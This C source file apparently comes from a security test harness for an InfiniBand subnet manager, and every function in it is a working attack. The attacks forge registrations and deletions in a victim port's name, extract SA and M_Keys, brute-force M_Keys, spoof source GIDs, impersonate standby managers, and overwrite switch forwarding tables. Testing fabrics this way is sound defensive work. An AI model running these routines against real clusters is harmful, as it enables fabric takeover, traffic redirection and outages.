/* Requests that only others may make: in the name of another port, with another's registrations,
 * or with keys that the attacker does not have. Each request that succeeds is a breach. */
#include "attack/attacker.h"

#include <infiniband/umad.h>
#include <string.h>
#include <time.h>

enum { VICTIM_SERVICE = 0x5EC2E7, VICTIM_GROUP = 0x6209, SERVICE_KEY_BYTE = 0x5A };
#define REGISTRATIONS 0xFF57 /* the attribute by which a standby copies registrations */

/* ---- registrations of the victim ---- */

static uint8_t *make_service_of(struct attacker *attacker, unsigned method, uint64_t id,
                                uint64_t guid, bool with_key)
{
    enum { ID = 1, GID = 2, KEY = 1 << 5 };
    uint8_t *record = make_query(attacker, method, ATTRIBUTE_SERVICE_RECORD,
                                 (uint64_t)(ID | GID | (with_key ? KEY : 0)));
    wire_set(record, SERVICE_RECORD_ID, id);
    set_gid(wire_bytes(record, SERVICE_RECORD_GID), PREFIX, guid);
    return record;
}

static void make_membership(struct attacker *attacker, unsigned method, uint64_t guid)
{
    enum { MGID, PORT, Q_KEY, CLASS = 6, P_KEY, SL = 12, FLOW, STATE = 16 };
    uint8_t *record = make_query(attacker, method, ATTRIBUTE_MC_MEMBER_RECORD,
                                 1 << MGID | 1 << PORT | 1 << Q_KEY | 1 << CLASS | 1 << P_KEY |
                                     1 << SL | 1 << FLOW | 1 << STATE);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_MGID), UINT64_C(0xFF12A01C00000000), VICTIM_GROUP);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_PORT_GID), PREFIX, guid);
    wire_set(record, MC_MEMBER_RECORD_P_KEY, 0xFFFF);
    wire_set(record, MC_MEMBER_RECORD_JOIN_STATE, 1);
}

static void make_inform(struct attacker *attacker, bool subscribe)
{
    uint8_t *inform = make_query(attacker, METHOD_SET, ATTRIBUTE_INFORM_INFO, 0);
    wire_set(inform, INFORM_INFO_LID_RANGE_BEGIN, 0xFFFF);
    wire_set(inform, INFORM_INFO_IS_GENERIC, 1);
    wire_set(inform, INFORM_INFO_SUBSCRIBE, subscribe);
    wire_set(inform, INFORM_INFO_TYPE, 0xFFFF);
    wire_set(inform, INFORM_INFO_TRAP_NUMBER, 65);
    wire_set(inform, INFORM_INFO_PRODUCER_TYPE, 0xFFFFFF);
    wire_set(inform, INFORM_INFO_QPN, 1);
}

/* The victim itself: registers what others then attack. It repeats requests without a response. */
void register_own(struct attacker *attacker)
{
    enum { TRIES = 20, KINDS = 3 };
    size_t bytes;
    int status;
    for (unsigned kind = 0; kind < KINDS; kind++) {
        for (unsigned tries = 0; tries < TRIES; tries++) {
            if (kind == 0)
                memset(wire_bytes(make_service_of(attacker, METHOD_SET, VICTIM_SERVICE,
                                                  attacker->own_guid, true),
                                  SERVICE_RECORD_KEY),
                       SERVICE_KEY_BYTE, wire_fields[SERVICE_RECORD_KEY].count);
            else if (kind == 1)
                make_membership(attacker, METHOD_SET, attacker->own_guid);
            else
                make_inform(attacker, true);
            if ((status = ask(attacker, &bytes)) >= 0)
                break;
        }
        attacker->granted += status == 0;
    }
}

/* Sends the request in `out` without a key and with the sa_key that managers have by default. */
static void try_both(struct attacker *attacker)
{
    uint8_t request[MAD_BYTES];
    size_t bytes;
    memcpy(request, umad_get_mad(attacker->out), sizeof request);
    for (unsigned key = 0; key < 2; key++) {
        memcpy(umad_get_mad(attacker->out), request, sizeof request);
        wire_set(umad_get_mad(attacker->out), SA_SM_KEY, key);
        attacker->granted += ask(attacker, &bytes) == 0;
    }
}

/* New services for the GID of the victim, and a new contents of its own one. */
void register_for_victim(struct attacker *attacker)
{
    for (uint64_t id = 1; goes_on(attacker); id++) {
        make_service_of(attacker, METHOD_SET, id, attacker->victim_guid, false);
        try_both(attacker);
        make_service_of(attacker, METHOD_SET, VICTIM_SERVICE, attacker->victim_guid, id % 2);
        try_both(attacker);
    }
}

void delete_of_victim(struct attacker *attacker)
{
    for (unsigned i = 0; goes_on(attacker); i++) {
        make_service_of(attacker, METHOD_DELETE, VICTIM_SERVICE, attacker->victim_guid, i % 2);
        try_both(attacker);
        make_membership(attacker, METHOD_DELETE, attacker->victim_guid);
        try_both(attacker);
        make_inform(attacker, false);
        try_both(attacker);
    }
}

/* Alias GUIDs of the victim: new ones, which may be those of other ports, and none. */
void change_guids_of_victim(struct attacker *attacker)
{
    enum { LID, BLOCK, FIRST_PLACE = 4, PLACES = 8 };
    for (unsigned i = 0; goes_on(attacker); i++) {
        unsigned place = 1 + i / 3 % (PLACES - 1);
        uint8_t *record =
            make_query(attacker, i % 3 ? METHOD_SET : METHOD_DELETE, ATTRIBUTE_GUID_INFO_RECORD,
                       1 << LID | 1 << BLOCK | 1 << (FIRST_PLACE + place));
        wire_set(record, GUID_INFO_RECORD_LID, attacker->victim_lid);
        wire_set_at(record + GUID_INFO_RECORD_AT_GUID_INFO, GUID_INFO_GUID, place,
                    i % 3 == 1 ? attacker->own_guid + i : 0);
        try_both(attacker);
    }
}

/* ---- keys in responses ---- */

static bool is_set(const uint8_t *bytes, size_t count)
{
    for (size_t i = 0; i < count; i++)
        if (bytes[i])
            return true;
    return false;
}

/* The number of records of a table in which the field is not 0. */
static uint64_t count_shown(struct attacker *attacker, unsigned attribute, enum wire_field field,
                            size_t at, unsigned key)
{
    size_t bytes;
    uint64_t shown = 0;
    make_query(attacker, METHOD_GET_TABLE, attribute, 0);
    wire_set(umad_get_mad(attacker->out), SA_SM_KEY, key);
    if (ask(attacker, &bytes) != 0)
        return 0;
    size_t size = 8 * (size_t)wire_get(response(attacker), SA_ATTRIBUTE_OFFSET);
    for (size_t i = SA_DATA_OFFSET; size && i + size <= bytes; i += size)
        shown += is_set(response(attacker) + i + at + wire_fields[field].offset / 8,
                        wire_fields[field].count > 1 ? wire_fields[field].count : 8);
    return shown;
}

static uint64_t shown_by_smp(struct attacker *attacker, unsigned lid, unsigned attribute,
                             enum wire_field field)
{
    unsigned outstanding = 1;
    make_smp(attacker, METHOD_GET, attribute, 0);
    send_smp(attacker, lid, 50);
    return take_answers(attacker, &outstanding, 1) &&
           wire_get(response(attacker) + SMP_DATA_OFFSET, field) != 0;
}

void read_keys(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        for (unsigned key = 0; key < 2; key++)
            attacker->granted +=
                count_shown(attacker, ATTRIBUTE_PORT_INFO_RECORD, PORT_INFO_M_KEY,
                            PORT_INFO_RECORD_AT_PORT_INFO, key) +
                count_shown(attacker, ATTRIBUTE_SERVICE_RECORD, SERVICE_RECORD_KEY, 0, key) +
                count_shown(attacker, ATTRIBUTE_SM_INFO_RECORD, SM_INFO_SM_KEY,
                            SM_INFO_RECORD_AT_SM_INFO, key);
        attacker->granted +=
            shown_by_smp(attacker, attacker->master_lid, ATTRIBUTE_SM_INFO, SM_INFO_SM_KEY);
        attacker->granted +=
            shown_by_smp(attacker, attacker->victim_lid, ATTRIBUTE_PORT_INFO, PORT_INFO_M_KEY);
    }
}

/* ---- false identities ---- */

/* run.sh gives the adapter another GUID: its GRH has an SGID that does not belong to its LID. */
void query_with_grh(struct attacker *attacker)
{
    struct ib_mad_addr address = {.grh_present = 1, .hop_limit = 1};
    set_gid(address.gid, PREFIX, attacker->own_guid);
    while (goes_on(attacker)) {
        unsigned outstanding = 1;
        make_query(attacker, METHOD_GET, ATTRIBUTE_CLASS_PORT_INFO, 0);
        umad_set_grh(attacker->out, &address);
        send_query(attacker, 20);
        attacker->granted += take_answers(attacker, &outstanding, 1);
    }
}

/* Polls as a standby, with a random proof, and again with the same nonce and proof. A response with
 * more than its header has registrations. */
void poll_as_standby(struct attacker *attacker)
{
    enum { HEADER_BYTES = 32, ASKED = 64 };
    uint8_t poll[64];
    size_t bytes;
    for (unsigned i = 0; goes_on(attacker); i++) {
        uint8_t *data = make_query(attacker, METHOD_GET_TABLE, REGISTRATIONS, 0);
        for (size_t at = 0; i % 2 == 0 && at < sizeof poll; at++)
            poll[at] = (uint8_t)rng_below(&attacker->rng, 256);
        memcpy(data, poll, sizeof poll);
        wire_set(umad_get_mad(attacker->out), SA_SM_KEY, i / 2 % 2);
        if (i % ASKED)
            send_query(attacker, 0);
        else
            attacker->granted +=
                ask(attacker, &bytes) == 0 && bytes > SA_DATA_OFFSET + HEADER_BYTES;
    }
}

/* Set(SMInfo) in the name of the victim's GUID and of others, to the master and to the standby. */
void control_managers(struct attacker *attacker)
{
    enum { HANDOVER = 1, DISCOVER = 5, MASTER_STATE = 3, KINDS = 3 };
    static const uint64_t keys[] = {0, 1};
    for (unsigned i = 0; goes_on(attacker); i++) {
        unsigned modifier = HANDOVER + i % DISCOVER;
        unsigned outstanding = 1;
        uint8_t *info = make_smp(attacker, METHOD_SET, ATTRIBUTE_SM_INFO, modifier);
        uint64_t guids[KINDS] = {attacker->own_guid, attacker->master_guid, attacker->standby_guid};
        wire_set(info, SM_INFO_GUID, guids[i / DISCOVER % KINDS]);
        wire_set(info, SM_INFO_SM_KEY, keys[i / (DISCOVER * KINDS) % 2]);
        wire_set(info, SM_INFO_PRIORITY, 15);
        wire_set(info, SM_INFO_STATE, MASTER_STATE);
        send_smp(attacker, i % 2 ? attacker->master_lid : attacker->standby_lid, 20);
        take_answers(attacker, &outstanding, 1);
    }
}

/* ---- M_Keys ---- */

/* The settings of the port with this LID, from the SA. */
static bool read_settings(struct attacker *attacker, unsigned lid, uint8_t info[SMP_DATA_BYTES])
{
    size_t bytes;
    uint8_t *record = make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PORT_INFO_RECORD, 1);
    wire_set(record, PORT_INFO_RECORD_LID, lid);
    if (ask(attacker, &bytes) != 0 || bytes < SA_DATA_OFFSET + WIRE_BYTES_PORT_INFO_RECORD)
        return false;
    memset(info, 0, SMP_DATA_BYTES);
    memcpy(info, response(attacker) + SA_DATA_OFFSET + PORT_INFO_RECORD_AT_PORT_INFO,
           WIRE_BYTES_PORT_INFO);
    wire_set(info, PORT_INFO_PORT_STATE, 0); /* no change */
    wire_set(info, PORT_INFO_PORT_PHYSICAL_STATE, 0);
    return true;
}

/* Set(PortInfo) of the victim: the attacker would be its manager. */
static void make_port_set(struct attacker *attacker, const uint8_t *settings, uint64_t m_key)
{
    uint8_t *info = make_smp(attacker, METHOD_SET, ATTRIBUTE_PORT_INFO, 1);
    wire_set(umad_get_mad(attacker->out), SMP_M_KEY, m_key);
    memcpy(info, settings, SMP_DATA_BYTES);
    wire_set(info, PORT_INFO_MASTER_SM_LID, attacker->own_lid);
}

void guess_m_keys(struct attacker *attacker)
{
    unsigned outstanding = 0;
    uint8_t settings[SMP_DATA_BYTES];
    if (!read_settings(attacker, attacker->victim_lid, settings))
        return;
    while (goes_on(attacker)) {
        make_port_set(attacker, settings, attacker->attempts % 256 ? rng_next(&attacker->rng) : 0);
        send_smp(attacker, attacker->victim_lid, 20);
        outstanding++;
        attacker->granted += take_answers(attacker, &outstanding, WINDOW);
    }
}

void use_own_m_key(struct attacker *attacker)
{
    uint8_t settings[SMP_DATA_BYTES];
    if (!read_settings(attacker, attacker->victim_lid, settings))
        return;
    while (goes_on(attacker)) {
        unsigned outstanding = 1;
        make_port_set(attacker, settings, attacker->own_m_key);
        send_smp(attacker, attacker->victim_lid, 20);
        attacker->granted += take_answers(attacker, &outstanding, 1);
    }
}

/* Wrong keys start the lease of the victim's port. When it has expired, a Get shows the key. */
void outlast_lease(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        attacker->granted +=
            shown_by_smp(attacker, attacker->victim_lid, ATTRIBUTE_PORT_INFO, PORT_INFO_M_KEY);
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
}

/* ---- switches ---- */

/* Overwrites a block of the forwarding table, the top of the table and the state of a port, with no
 * key and with the attacker's own one. */
static void write_switch(struct attacker *attacker, unsigned lid)
{
    static const struct {
        unsigned attribute;
        uint32_t modifier;
    } targets[] = {
        {ATTRIBUTE_LINEAR_FORWARDING_TABLE, 0},
        {ATTRIBUTE_SWITCH_INFO, 0},
        {ATTRIBUTE_PORT_INFO, 1},
    };
    for (size_t i = 0; i < 2 * (sizeof targets / sizeof *targets); i++) {
        unsigned outstanding = 1;
        make_smp(attacker, METHOD_SET, targets[i / 2].attribute, targets[i / 2].modifier);
        wire_set(umad_get_mad(attacker->out), SMP_M_KEY, i % 2 ? attacker->own_m_key : 0);
        send_smp(attacker, lid, 20);
        attacker->granted += take_answers(attacker, &outstanding, 1);
    }
}

void write_switches(struct attacker *attacker)
{
    enum { NODE_TYPE_SWITCH = 2, MOST = 256 };
    unsigned lids[MOST], count = 0;
    size_t bytes;
    make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_NODE_RECORD, 0);
    if (ask(attacker, &bytes) != 0)
        return;
    size_t size = 8 * (size_t)wire_get(response(attacker), SA_ATTRIBUTE_OFFSET);
    for (size_t at = SA_DATA_OFFSET; size && at + size <= bytes && count < MOST; at += size) {
        const uint8_t *record = response(attacker) + at;
        if (wire_get(record + NODE_RECORD_AT_NODE_INFO, NODE_INFO_NODE_TYPE) == NODE_TYPE_SWITCH)
            lids[count++] = (unsigned)wire_get(record, NODE_RECORD_LID);
    }
    for (unsigned i = 0; count && goes_on(attacker); i++)
        write_switch(attacker, lids[i % count]);
}
